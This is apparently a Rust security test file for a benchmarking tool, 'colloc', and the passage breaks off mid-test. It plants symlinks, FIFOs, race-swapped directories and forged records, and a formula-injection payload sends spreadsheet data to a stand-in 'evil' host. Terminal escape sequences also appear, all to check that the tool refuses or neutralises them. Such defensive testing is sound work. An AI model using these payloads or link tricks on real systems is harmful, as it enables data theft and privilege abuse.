//! The user-side commands in hostile directories (SECURITY.md, "User-side commands";
//! issue 23): `colloc run`, `bench` and `report` against planted directories, links at
//! the names colloc writes, another user's record linked in, FIFOs and `/dev/zero` where
//! colloc reads, and forged records. The attacker and the victim are plain uids acting
//! through `Command::uid` (no accounts are made, nothing is left on the host); the tests
//! that need them run as root, as CI does.
//!
//! One file, though long: it is the checklist of one section of SECURITY.md, one test a
//! finding, and its tests share the attacker/victim helpers here (`as_user`, `record`,
//! `refused`, `snapshot`); split, those would have to move to a shared module and each
//! part would be one more test binary to build and link.

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

/// The attacker's and the victim's uids (and gids): no account needs to exist.
const ATTACKER: u32 = 64_201;
const VICTIM: u32 = 64_202;

fn is_root() -> bool {
    // SAFETY: geteuid has no preconditions.
    unsafe { libc::geteuid() == 0 }
}

/// A temporary directory other uids can enter.
fn tmp() -> tempfile::TempDir {
    let t = tempfile::tempdir().unwrap();
    std::fs::set_permissions(t.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    t
}

/// `colloc` with a clean environment (no GPU, no node configuration, no job).
fn colloc(cwd: &Path) -> Command {
    let mut c = Command::new(assert_cmd::cargo::cargo_bin("colloc"));
    for k in [
        "COLLOC_MODE",
        "COLLOC_DEVICES",
        "COLLOC_SLOTS",
        "CUDA_VISIBLE_DEVICES",
        "SLURM_JOB_ID",
        "SLURM_RESTART_COUNT",
        "SLURM_STEP_ID",
        "SLURM_JOB_NUM_NODES",
        "SLURM_NNODES",
        "COLLOC_LOG",
    ] {
        c.env_remove(k);
    }
    c.env("COLLOC_CONFIG", "/nonexistent/colloc.toml")
        .current_dir(cwd)
        .stdin(Stdio::null());
    c
}

/// As `uid` (with the gid of the same number and no supplementary groups).
fn as_user(c: &mut Command, uid: u32) -> &mut Command {
    c.uid(uid).gid(uid)
}

/// Run it; a guard against a hang (the assertions are on what it says and its exit
/// code, never on how long it took).
fn output(c: &mut Command) -> Output {
    let mut child = c
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let guard = Instant::now() + Duration::from_secs(60);
    loop {
        if child.try_wait().unwrap().is_some() {
            return child.wait_with_output().unwrap();
        }
        if Instant::now() > guard {
            let _ = child.kill();
            let out = child.wait_with_output().unwrap();
            panic!(
                "colloc hung (killed after 60 s): {}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// Exit 2 with one `colloc: error:` line containing `want`.
fn refused(out: &Output, want: &str) {
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "stderr: {err}");
    let errors: Vec<&str> = err.lines().filter(|l| l.contains("error")).collect();
    assert_eq!(errors.len(), 1, "{err}");
    assert!(errors[0].starts_with("colloc: error: "), "{err}");
    assert!(errors[0].contains(want), "wanted {want:?} in: {err}");
    assert!(!err.contains("internal error"), "{err}");
}

/// A real record: one run of `colloc run` into `dir` (as `uid`, where given).
fn record(cwd: &Path, dir: &Path, uid: Option<u32>, env: &[(&str, &str)]) {
    let mut c = colloc(cwd);
    c.args(["run", "-q", "-j", "1", "-n", "1", "--report-dir"])
        .arg(dir)
        .args(["--", "sh", "-c", "echo img/s=5"]);
    for (k, v) in env {
        c.env(k, v);
    }
    if let Some(u) = uid {
        // The user's own directory, made for them where they could not make it.
        std::fs::create_dir(dir).unwrap();
        std::os::unix::fs::lchown(dir, Some(u), Some(u)).unwrap();
        as_user(&mut c, u);
    }
    let out = output(&mut c);
    assert!(out.status.success(), "{}", text(&out.stderr));
}

fn mkfifo(p: &Path) {
    let c = std::ffi::CString::new(p.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o666) }, 0, "mkfifo");
}

/// Every entry below `dir` with its size and modification time.
fn snapshot(dir: &Path) -> Vec<(PathBuf, u64, i64, i64)> {
    let mut out = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            let m = std::fs::symlink_metadata(&p).unwrap();
            out.push((p.clone(), m.size(), m.mtime(), m.mtime_nsec()));
            if m.is_dir() {
                todo.push(p);
            }
        }
    }
    out.sort();
    out
}

#[test]
fn roots_report_on_another_users_dir_never_writes_through_a_chart_link() {
    if !is_root() {
        eprintln!("skipped: needs root to act as two users");
        return;
    }
    let t = tmp();
    let dir = t.path().join("theirs");
    record(t.path(), &dir, Some(ATTACKER), &[]);
    // The attacker swaps a chart and the report for links to root's files.
    let roots = t.path().join("roots-file");
    std::fs::write(&roots, "root's own\n").unwrap();
    for name in ["colloc-timeline.png", "colloc-report.json"] {
        let p = dir.join(name);
        std::fs::remove_file(&p).unwrap();
        std::os::unix::fs::symlink(&roots, &p).unwrap();
        std::os::unix::fs::lchown(&p, Some(ATTACKER), Some(ATTACKER)).unwrap();
    }
    let before = snapshot(&dir);
    let out = output(colloc(t.path()).arg("report").arg(&dir));
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("run1"), "{}", text(&out.stdout));
    assert_eq!(std::fs::read_to_string(&roots).unwrap(), "root's own\n");
    assert_eq!(
        snapshot(&dir),
        before,
        "root wrote into the attacker's directory"
    );
    // The attacker's own report replaces the links; it never follows them.
    let out = output(as_user(colloc(t.path()).arg("report").arg(&dir), ATTACKER));
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(std::fs::read_to_string(&roots).unwrap(), "root's own\n");
    let png = std::fs::symlink_metadata(dir.join("colloc-timeline.png")).unwrap();
    assert!(png.is_file() && png.uid() == ATTACKER);
    // --out into a directory root owns writes there.
    let out_dir = t.path().join("copy");
    let out = output(
        colloc(t.path())
            .args(["report", "-q", "--out"])
            .arg(&out_dir)
            .arg(&dir),
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(out_dir.join("colloc-report.json").is_file());
    // The summary names the report written there, not DIR's.
    let summary = text(&out.stdout);
    assert!(
        summary.contains(&format!("report {}/colloc-report.json", out_dir.display())),
        "{summary}"
    );
}

#[test]
fn a_planted_world_writable_colloc_dir_is_refused_by_colloc_run() {
    if !is_root() {
        eprintln!("skipped: needs root to act as two users");
        return;
    }
    let t = tmp();
    let shared = t.path().join("shared");
    std::fs::create_dir(&shared).unwrap();
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).unwrap();
    // The attacker knows the next job id and plants its directory, open to all.
    let planted = shared.join("colloc-4242");
    std::fs::create_dir(&planted).unwrap();
    std::fs::set_permissions(&planted, std::fs::Permissions::from_mode(0o777)).unwrap();
    std::os::unix::fs::lchown(&planted, Some(ATTACKER), Some(ATTACKER)).unwrap();
    for uid in [VICTIM, 0] {
        let mut c = colloc(&shared);
        c.env("SLURM_JOB_ID", "4242")
            .args(["run", "-q", "-j", "1", "-n", "1", "--", "true"]);
        if uid != 0 {
            as_user(&mut c, uid);
        }
        let out = output(&mut c);
        refused(&out, "colloc-4242 is owned by uid 64201 (not you)");
        assert_eq!(std::fs::read_dir(&planted).unwrap().count(), 0);
    }
    // The victim's own directory left writable by others is refused too.
    let open = shared.join("open");
    std::fs::create_dir(&open).unwrap();
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o777)).unwrap();
    let out = output(
        colloc(&shared)
            .args(["run", "-q", "-n", "1", "--report-dir"])
            .arg(&open)
            .args(["--", "true"]),
    );
    refused(&out, "writable by group or others (mode 0777)");
    // A link at the report directory's name is not followed.
    std::os::unix::fs::symlink(&open, shared.join("link")).unwrap();
    let out = output(colloc(&shared).args([
        "run",
        "-q",
        "-n",
        "1",
        "--report-dir",
        "link",
        "--",
        "true",
    ]));
    refused(&out, "a symbolic link");
}

#[test]
fn an_event_file_linked_to_another_users_record_is_refused() {
    if !is_root() {
        eprintln!("skipped: needs root to act as two users");
        return;
    }
    let t = tmp();
    let victims = t.path().join("victim");
    record(t.path(), &victims, Some(VICTIM), &[]);
    // The victim's run had a secret in its environment (as a manifest's env would).
    let ev = victims.join("events/1.main.jsonl");
    let forged = std::fs::read_to_string(&ev)
        .unwrap()
        .replace("\"env\":[]", "\"env\":[[\"TOKEN\",\"s3cret\"]]");
    std::fs::write(&ev, forged).unwrap();
    // The attacker's directory: its event file a link, then a hard link, to the victim's.
    let theirs = t.path().join("theirs");
    record(t.path(), &theirs, Some(ATTACKER), &[]);
    let mine = theirs.join("events/1.main.jsonl");
    for (how, want) in [
        ("symlink", "a symbolic link"),
        ("hard", "owned by uid 64202"),
    ] {
        std::fs::remove_file(&mine).unwrap();
        if how == "symlink" {
            std::os::unix::fs::symlink(&ev, &mine).unwrap();
            std::os::unix::fs::lchown(&mine, Some(ATTACKER), Some(ATTACKER)).unwrap();
        } else {
            std::fs::hard_link(&ev, &mine).unwrap();
        }
        let before = snapshot(&theirs);
        for args in [&["report"][..], &["report", "--json"][..]] {
            let out = output(colloc(t.path()).args(args).arg(&theirs));
            refused(&out, want);
            assert!(!text(&out.stdout).contains("s3cret"));
        }
        // Even with --out, nothing of the victim's is copied anywhere.
        let out = output(
            colloc(t.path())
                .args(["report", "--out"])
                .arg(t.path().join("copy"))
                .arg(&theirs),
        );
        refused(&out, want);
        assert_eq!(snapshot(&theirs), before);
    }
    assert!(!t.path().join("copy/colloc-report.json").exists());
}

#[test]
fn fifos_where_colloc_reads_are_refused_at_once() {
    let t = tmp();
    let fifo = t.path().join("fifo");
    mkfifo(&fifo);
    // an event file
    let dir = t.path().join("rec");
    std::fs::create_dir_all(dir.join("events")).unwrap();
    mkfifo(&dir.join("events/1.main.jsonl"));
    refused(
        &output(colloc(t.path()).arg("report").arg(&dir)),
        "1.main.jsonl is a FIFO, not a regular file",
    );
    // the lock of a record, for report and for run
    let rec = t.path().join("rec2");
    record(t.path(), &rec, None, &[]);
    std::fs::remove_file(rec.join(".colloc.lock")).unwrap();
    mkfifo(&rec.join(".colloc.lock"));
    refused(
        &output(colloc(t.path()).args(["report", "--no-write"]).arg(&rec)),
        ".colloc.lock is a FIFO",
    );
    let empty = t.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    mkfifo(&empty.join(".colloc.lock"));
    refused(
        &output(
            colloc(t.path())
                .args(["run", "-q", "-n", "1", "--report-dir"])
                .arg(&empty)
                .args(["--", "true"]),
        ),
        ".colloc.lock is a FIFO",
    );
    // a manifest, a baseline, a bench report to compare with
    refused(
        &output(colloc(t.path()).args(["run", "-f"]).arg(&fifo)),
        "a FIFO, not a regular file",
    );
    refused(
        &output(
            colloc(t.path())
                .args(["run", "-q", "-n", "1", "--baseline"])
                .arg(&fifo)
                .args(["--", "true"]),
        ),
        "a FIFO, not a regular file",
    );
    refused(
        &output(
            colloc(t.path())
                .args(["bench", "--compare"])
                .arg(&fifo)
                .arg(&fifo),
        ),
        "a FIFO, not a regular file",
    );
}

#[test]
fn dev_zero_where_colloc_reads_is_refused() {
    let t = tmp();
    let dir = t.path().join("rec");
    std::fs::create_dir_all(dir.join("events")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", dir.join("events/1.main.jsonl")).unwrap();
    refused(
        &output(colloc(t.path()).args(["report", "--no-write"]).arg(&dir)),
        "1.main.jsonl is a symbolic link",
    );
    for args in [
        &["bench", "--compare", "/dev/zero", "/dev/zero"][..],
        &["run", "-f", "/dev/zero"][..],
    ] {
        refused(
            &output(colloc(t.path()).args(args)),
            "a character device, not a regular file",
        );
    }
}

/// Append forged event lines to a real record.
fn forge(dir: &Path, lines: &str) {
    use std::io::Write;
    std::fs::OpenOptions::new()
        .append(true)
        .open(dir.join("events/1.main.jsonl"))
        .unwrap()
        .write_all(lines.as_bytes())
        .unwrap();
}

#[test]
fn forged_slot_indexes_and_times_are_refused_with_a_clear_line() {
    let t = tmp();
    for (i, (line, want)) in [
        (
            r#"{"ev":"start","ts":1800000000,"run":"run1","attempt":2,"session":1,"slot":1000000000000000,"device":null,"node":null,"log":"logs/run1.log"}"#,
            "line 5: slot index 1000000000000000 but its session declares 1 slot(s)",
        ),
        (
            r#"{"ev":"stop","ts":1e308,"reason":"x"}"#,
            "line 5: time 1e308 is not a time colloc writes",
        ),
        (
            r#"{"ev":"progress","ts":1800000000,"run":"run1","attempt":1,"samples":[[1e300,1]]}"#,
            "line 5: a sample's time 1e300 is not a time colloc writes",
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let dir = t.path().join(format!("rec{i}"));
        record(t.path(), &dir, None, &[]);
        let n = std::fs::read_to_string(dir.join("events/1.main.jsonl"))
            .unwrap()
            .lines()
            .count();
        assert_eq!(n, 4, "the record's shape changed: fix the line numbers");
        forge(&dir, &format!("{line}\n"));
        let before = snapshot(&dir);
        refused(
            &output(colloc(t.path()).arg("report").arg(&dir)),
            want,
        );
        assert_eq!(snapshot(&dir), before);
        // a resume reads the record the same way
        refused(
            &output(
                colloc(t.path())
                    .args(["run", "-q", "-j", "1", "-n", "1", "--resume", "--report-dir"])
                    .arg(&dir)
                    .args(["--", "sh", "-c", "echo img/s=5"]),
            ),
            want,
        );
    }
}

#[test]
fn control_characters_in_names_never_reach_the_terminal() {
    let t = tmp();
    let dir = t.path().join("rec");
    record(t.path(), &dir, None, &[]);
    let ev = dir.join("events/1.main.jsonl");
    let forged = std::fs::read_to_string(&ev)
        .unwrap()
        .replace("\"run1\"", "\"r\\u001b[2J\\u001b]0;owned\\u0007\\n1\"");
    std::fs::write(&ev, forged).unwrap();
    for args in [
        &["report", "--no-write"][..],
        &["report", "-q", "--no-write"][..],
    ] {
        let out = output(colloc(t.path()).args(args).arg(&dir));
        assert!(out.status.success(), "{}", text(&out.stderr));
        let all = [out.stdout.as_slice(), out.stderr.as_slice()].concat();
        assert!(
            !all.iter().any(|&b| b == 0x1b || b == 0x07),
            "raw control characters: {}",
            text(&all)
        );
    }
    let out = output(colloc(t.path()).args(["report", "--no-write"]).arg(&dir));
    let table = text(&out.stdout);
    assert!(
        table.contains(r"r\u{1b}[2J\u{1b}]0;owned\u{7}\n1"),
        "{table}"
    );
}

#[test]
fn report_on_a_read_only_dir_prints_and_writes_nothing() {
    let t = tmp();
    let dir = t.path().join("rec");
    record(t.path(), &dir, None, &[]);
    std::fs::remove_file(dir.join("colloc-runs.csv")).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o555)).unwrap();
    let before = snapshot(&dir);
    for args in [
        &["report"][..],
        &["report", "--json"][..],
        &["report", "--csv"][..],
        &["report", "-q"][..],
    ] {
        let out = output(colloc(t.path()).args(args).arg(&dir));
        assert!(out.status.success(), "{args:?}: {}", text(&out.stderr));
        let shown = text(&out.stdout);
        assert!(
            shown.contains("run1") || shown.contains("1 runs"),
            "{shown}"
        );
        assert_eq!(
            snapshot(&dir),
            before,
            "{args:?} wrote into a read-only dir"
        );
    }
    // --out into a directory others can write is refused like a report directory.
    let open = t.path().join("open");
    std::fs::create_dir(&open).unwrap();
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o777)).unwrap();
    refused(
        &output(
            colloc(t.path())
                .args(["report", "--out"])
                .arg(&open)
                .arg(&dir),
        ),
        "--out: ",
    );
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    // Writable again and the caller's: the report files are rewritten.
    let out = output(colloc(t.path()).arg("report").arg(&dir));
    assert!(out.status.success());
    assert!(dir.join("colloc-runs.csv").is_file());
}

#[test]
fn bench_refuses_to_replace_an_earlier_bench_json() {
    let t = tmp();
    let dir = t.path().join("bench");
    std::fs::create_dir_all(dir.join("logs")).unwrap();
    std::fs::write(dir.join("bench.json"), "earlier\n").unwrap();
    std::fs::write(dir.join("logs/solo-r1-0.log"), "earlier\n").unwrap();
    // A node configuration that finds no NVML: the refusal comes before any GPU work.
    let config = t.path().join("colloc.toml");
    std::fs::write(
        &config,
        "version = 1\nnvml_library = \"/nonexistent/libnvidia-ml.so.1\"\n",
    )
    .unwrap();
    let bench = |extra: &[&str]| {
        let mut c = colloc(t.path());
        c.env("COLLOC_CONFIG", &config)
            .args(["bench", "--report-dir"])
            .arg(&dir)
            .args(extra)
            .args([
                "--",
                "sh",
                "-c",
                "while :; do echo img/s=5; sleep 0.1; done",
            ]);
        c
    };
    let out = output(&mut bench(&[]));
    refused(
        &out,
        "already holds the results of an earlier colloc bench (bench.json): give another --report-dir, or add --replace",
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("bench.json")).unwrap(),
        "earlier\n"
    );
    // Only old logs: refused too (they would mix with the new).
    std::fs::remove_file(dir.join("bench.json")).unwrap();
    refused(&output(&mut bench(&[])), "1 log(s) in logs/");
    assert!(dir.join("logs/solo-r1-0.log").is_file());
    // A planted directory others can write is refused as colloc run refuses it.
    let open = t.path().join("open");
    std::fs::create_dir(&open).unwrap();
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o777)).unwrap();
    let mut c = colloc(t.path());
    c.env("COLLOC_CONFIG", &config)
        .args(["bench", "--report-dir"])
        .arg(&open)
        .args(["--", "true"]);
    refused(&output(&mut c), "writable by group or others (mode 0777)");
}

#[test]
fn a_link_planted_in_a_parent_never_redirects_where_colloc_writes() {
    if !is_root() {
        eprintln!("skipped: needs root to act as two users");
        return;
    }
    let t = tmp();
    // A shared scratch directory, sticky as /tmp is; the victim keeps a directory of
    // their own elsewhere, which the attacker wants colloc to write into.
    let shared = t.path().join("shared");
    std::fs::create_dir(&shared).unwrap();
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).unwrap();
    let target = t.path().join("victims-own");
    std::fs::create_dir(&target).unwrap();
    std::os::unix::fs::lchown(&target, Some(VICTIM), Some(VICTIM)).unwrap();
    // The attacker plants `shared/proj` as a link to it, where the victim (or root) will
    // give `--report-dir shared/proj/out`.
    let rec = t.path().join("rec");
    record(t.path(), &rec, Some(VICTIM), &[]);
    let link = shared.join("proj");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    std::os::unix::fs::lchown(&link, Some(ATTACKER), Some(ATTACKER)).unwrap();
    for uid in [VICTIM, 0] {
        let mut c = colloc(t.path());
        c.args([
            "run",
            "-q",
            "-n",
            "1",
            "--report-dir",
            "shared/proj/out",
            "--",
            "true",
        ]);
        if uid != 0 {
            as_user(&mut c, uid);
        }
        refused(
            &output(&mut c),
            "shared/proj is a symbolic link owned by uid 64201",
        );
        assert_eq!(
            std::fs::read_dir(&target).unwrap().count(),
            0,
            "colloc wrote through the link"
        );
        // colloc report --out goes the same way.
        let mut c = colloc(t.path());
        c.args(["report", "--out", "shared/proj/out"]).arg(&rec);
        if uid != 0 {
            as_user(&mut c, uid);
        }
        refused(
            &output(&mut c),
            "shared/proj is a symbolic link owned by uid 64201",
        );
        assert_eq!(std::fs::read_dir(&target).unwrap().count(), 0);
    }
    // The victim's own link is followed for the victim (not for root); root's for both.
    std::fs::remove_file(&link).unwrap();
    std::os::unix::fs::symlink(&target, &link).unwrap();
    std::os::unix::fs::lchown(&link, Some(VICTIM), Some(VICTIM)).unwrap();
    let mut c = colloc(t.path());
    c.args([
        "run",
        "-q",
        "-n",
        "1",
        "--report-dir",
        "shared/proj/out",
        "--",
        "true",
    ]);
    let out = output(&mut c);
    refused(&out, "as root colloc follows only root's links");
    let out = output(as_user(&mut c, VICTIM));
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(target.join("out/events").is_dir());
    std::os::unix::fs::lchown(&link, Some(0), Some(0)).unwrap();
    let mut c = colloc(t.path());
    c.args([
        "run",
        "-q",
        "-n",
        "1",
        "--report-dir",
        "shared/proj/out2",
        "--",
        "true",
    ]);
    let out = output(&mut c);
    assert!(out.status.success(), "{}", text(&out.stderr));
    // Root never works below a directory others may rename entries of (no sticky bit).
    let open = t.path().join("open");
    std::fs::create_dir(&open).unwrap();
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o777)).unwrap();
    let out = output(colloc(t.path()).args([
        "run",
        "-q",
        "-n",
        "1",
        "--report-dir",
        "open/a/out",
        "--",
        "true",
    ]));
    refused(
        &out,
        "open is writable by group or others without the sticky bit (mode 0777)",
    );
    assert!(!open.join("a").exists());
}

#[test]
fn new_report_directories_are_readable_by_their_owner_only() {
    let t = tmp();
    let dir = t.path().join("rec");
    record(t.path(), &dir, None, &[("TOKEN", "s3cret")]);
    for d in [&dir, &dir.join("events"), &dir.join("logs")] {
        let mode = std::fs::metadata(d).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o700, "{} is {mode:o}", d.display());
    }
    let out_dir = t.path().join("copy");
    let out = output(
        colloc(t.path())
            .args(["report", "-q", "--out"])
            .arg(&out_dir)
            .arg(&dir),
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let mode = std::fs::metadata(&out_dir).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o700);
}

#[test]
fn a_record_of_thousands_of_event_files_reads_under_a_low_open_file_limit() {
    let t = tmp();
    let dir = t.path().join("rec");
    record(t.path(), &dir, None, &[]);
    // 2,000 writers of the session: far more files than the 256 descriptors allowed.
    for w in 0..2000 {
        std::fs::write(
            dir.join(format!("events/1.w{w}.jsonl")),
            format!("{{\"ev\":\"unknown\",\"ts\":{}}}\n", 1_800_000_000 + w),
        )
        .unwrap();
    }
    let mut c = colloc(t.path());
    c.args(["report", "--no-write"]).arg(&dir);
    // SAFETY: setrlimit is async-signal-safe and gets a valid pointer.
    unsafe {
        c.pre_exec(|| {
            let lim = libc::rlimit {
                rlim_cur: 256,
                rlim_max: 256,
            };
            if libc::setrlimit(libc::RLIMIT_NOFILE, &lim) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let out = output(&mut c);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("run1"), "{}", text(&out.stdout));
}

#[test]
fn a_run_name_made_to_inject_a_spreadsheet_formula_stays_text_in_the_csv() {
    let t = tmp();
    let dir = t.path().join("rec");
    record(t.path(), &dir, None, &[]);
    // A name with a formula, a comma, quotes and a newline (a manifest anyone shares).
    let ev = dir.join("events/1.main.jsonl");
    let forged = std::fs::read_to_string(&ev).unwrap().replace(
        "\"run1\"",
        r#""=HYPERLINK(\"http://evil/?\"&A1,\"open\"),1\n@2""#,
    );
    std::fs::write(&ev, forged).unwrap();
    let out = output(colloc(t.path()).args(["report", "--csv"]).arg(&dir));
    assert!(out.status.success(), "{}", text(&out.stderr));
    let out2 = output(colloc(t.path()).args(["report", "-q"]).arg(&dir));
    assert!(out2.status.success(), "{}", text(&out2.stderr));
    let written = std::fs::read(dir.join("colloc-runs.csv")).unwrap();
    for csv in [out.stdout, written] {
        let mut r = csv::Reader::from_reader(csv.as_slice());
        let width = r.headers().unwrap().len();
        let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 1, "{}", text(&csv));
        assert_eq!(rows[0].len(), width);
        assert_eq!(
            &rows[0][0],
            "'=HYPERLINK(\"http://evil/?\"&A1,\"open\"),1\n@2"
        );
        for cell in rows[0].iter() {
            assert!(!cell.starts_with(['=', '+', '@']), "{cell}");
        }
    }
}

#[test]
fn control_characters_reach_no_terminal_through_json_or_csv() {
    let t = tmp();
    let dir = t.path().join("rec");
    record(t.path(), &dir, None, &[]);
    let ev = dir.join("events/1.main.jsonl");
    // ESC and BEL as JSON escapes; DEL and the C1 CSI (U+009B, a sequence's start on
    // some terminals) raw, as a forged record may hold them.
    let forged = std::fs::read_to_string(&ev)
        .unwrap()
        .replace("\"run1\"", "\"r\\u001b[2J\u{7f}\u{9b}2J\\u0007\"");
    std::fs::write(&ev, forged).unwrap();
    for args in [
        &["report", "--json"][..],
        &["report", "--csv"][..],
        &["report", "--no-write"][..],
        &["report", "-q", "--no-write"][..],
    ] {
        let out = output(colloc(t.path()).args(args).arg(&dir));
        assert!(out.status.success(), "{args:?}: {}", text(&out.stderr));
        let all = text(&[out.stdout.as_slice(), out.stderr.as_slice()].concat());
        assert!(
            !all.chars().any(|c| c.is_control() && c != '\n'),
            "{args:?}: raw control characters: {all:?}"
        );
        if args[1] == "--json" {
            // Still the same JSON, name and all.
            let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
            assert_eq!(v["runs"][0]["name"], "r\u{1b}[2J\u{7f}\u{9b}2J\u{7}");
        }
    }
}

/// Run to the end and give the peak resident memory of the process, in bytes.
#[allow(
    clippy::zombie_processes,
    reason = "reaped by wait4, which also gives its rusage"
)]
fn peak_memory(c: &mut Command) -> (Output, u64) {
    let child = c
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let pid = child.id() as libc::pid_t;
    let mut out = child.stdout.unwrap();
    let mut err = child.stderr.unwrap();
    let stdout = std::thread::spawn(move || {
        let mut b = Vec::new();
        std::io::Read::read_to_end(&mut out, &mut b).unwrap();
        b
    });
    let stderr = std::thread::spawn(move || {
        let mut b = Vec::new();
        std::io::Read::read_to_end(&mut err, &mut b).unwrap();
        b
    });
    let mut status = 0;
    // SAFETY: rusage is plain data, zeroed is a valid value; wait4 writes into both.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    // SAFETY: the pid is our child's, not yet waited for; the pointers are valid.
    assert_eq!(unsafe { libc::wait4(pid, &mut status, 0, &mut usage) }, pid);
    let out = Output {
        status: std::os::unix::process::ExitStatusExt::from_raw(status),
        stdout: stdout.join().unwrap(),
        stderr: stderr.join().unwrap(),
    };
    (out, usage.ru_maxrss as u64 * 1024)
}

#[test]
fn memory_for_a_record_stays_within_a_small_multiple_of_its_size() {
    use std::io::Write;
    let t = tmp();
    // Two shapes: the shortest lines an index is built for, and progress lines full of
    // samples (a 63 MB record once took 1.3 GB).
    for shape in ["short", "samples"] {
        let dir = t.path().join(shape);
        record(t.path(), &dir, None, &[]);
        let mut f = std::io::BufWriter::new(
            std::fs::OpenOptions::new()
                .append(true)
                .open(dir.join("events/1.main.jsonl"))
                .unwrap(),
        );
        let mut size = 0u64;
        let mut i = 0u64;
        while size < 24 << 20 {
            let line = if shape == "short" {
                "{\"ev\":\"x\",\"ts\":1}\n".to_string()
            } else {
                let samples: Vec<String> = (0..20)
                    .map(|k| format!("[{},{k}]", 1_800_000_000 + i * 20 + k))
                    .collect();
                format!(
                    "{{\"ev\":\"progress\",\"ts\":1800000000,\"run\":\"run1\",\"attempt\":1,\"samples\":[{}]}}\n",
                    samples.join(",")
                )
            };
            f.write_all(line.as_bytes()).unwrap();
            size += line.len() as u64;
            i += 1;
        }
        drop(f);
        let (out, peak) = peak_memory(
            colloc(t.path())
                .args(["report", "-q", "--no-write"])
                .arg(&dir),
        );
        assert!(out.status.success(), "{}", text(&out.stderr));
        eprintln!("{shape}: {size} bytes of events, peak {peak} bytes");
        assert!(
            peak < 3 * size + (48 << 20),
            "{shape}: {peak} bytes for a record of {size}"
        );
    }
}

#[test]
fn a_directory_swapped_with_a_link_while_root_walks_never_redirects_a_write() {
    if !is_root() {
        eprintln!("skipped: needs root to act as two users");
        return;
    }
    use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
    use std::sync::Arc;
    let t = tmp();
    let rec = t.path().join("rec");
    record(t.path(), &rec, None, &[]);
    // The attacker's directory, where an admin writes a copy of a report; in it `a`, a
    // directory, and `l`, a link to a directory of root's, swapped without pause
    // (renameat2 RENAME_EXCHANGE) while root walks `att/a/outN`.
    let att = t.path().join("att");
    let target = t.path().join("roots-only");
    std::fs::create_dir(&target).unwrap();
    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::create_dir_all(att.join("a")).unwrap();
    std::os::unix::fs::symlink(&target, att.join("l")).unwrap();
    for p in [att.clone(), att.join("a"), att.join("l")] {
        std::os::unix::fs::lchown(&p, Some(ATTACKER), Some(ATTACKER)).unwrap();
    }
    let stop = Arc::new(AtomicBool::new(false));
    let swaps = Arc::new(AtomicU64::new(0));
    let spinner = {
        let (stop, swaps) = (stop.clone(), swaps.clone());
        let a =
            std::ffi::CString::new(att.join("a").into_os_string().into_encoded_bytes()).unwrap();
        let l =
            std::ffi::CString::new(att.join("l").into_os_string().into_encoded_bytes()).unwrap();
        std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                // SAFETY: valid NUL-terminated paths.
                let r = unsafe {
                    libc::renameat2(
                        libc::AT_FDCWD,
                        a.as_ptr(),
                        libc::AT_FDCWD,
                        l.as_ptr(),
                        libc::RENAME_EXCHANGE,
                    )
                };
                assert_eq!(r, 0, "renameat2");
                swaps.fetch_add(1, Ordering::Relaxed);
            }
        })
    };
    let (mut wrote, mut refusals) = (0, 0);
    for i in 0..40 {
        let out_dir = att.join(format!("a/out{i}"));
        let out = if i % 4 == 3 {
            output(
                colloc(t.path())
                    .args(["run", "-q", "-n", "1", "--report-dir"])
                    .arg(&out_dir)
                    .args(["--", "true"]),
            )
        } else {
            output(
                colloc(t.path())
                    .args(["report", "-q", "--out"])
                    .arg(&out_dir)
                    .arg(&rec),
            )
        };
        let err = text(&out.stderr);
        match out.status.code() {
            Some(0) => wrote += 1,
            Some(2) => {
                refusals += 1;
                let errors: Vec<&str> = err.lines().filter(|l| l.contains("error")).collect();
                assert_eq!(errors.len(), 1, "{err}");
                assert!(
                    errors[0].contains("att/a is a symbolic link owned by uid 64201")
                        || errors[0].contains("att/a changed while colloc opened it"),
                    "{err}"
                );
            }
            c => panic!("exit {c:?}: {err}"),
        }
    }
    stop.store(true, Ordering::Relaxed);
    spinner.join().unwrap();
